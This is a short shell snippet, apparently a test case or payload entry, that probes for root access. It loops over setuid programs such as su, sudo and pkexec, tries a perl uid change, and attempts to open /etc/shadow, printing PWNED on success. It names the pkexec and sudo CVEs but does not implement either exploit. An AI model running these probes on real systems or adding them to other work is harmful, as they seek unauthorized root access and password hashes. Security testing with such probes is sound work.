# tries: become root through the machine's own setuid programs
# from: CVE-2021-4034 (pkexec), CVE-2021-3156 (sudo)
for p in su sudo pkexec newgrp mount umount passwd chsh; do command -v $p > /dev/null && echo | $p -c id root 2> /dev/null | grep -q 'uid=0' && echo PWNED; done
perl -e '$< = $> = 0; print "PWNED\n" if $> == 0 && open(F, "/etc/shadow")'
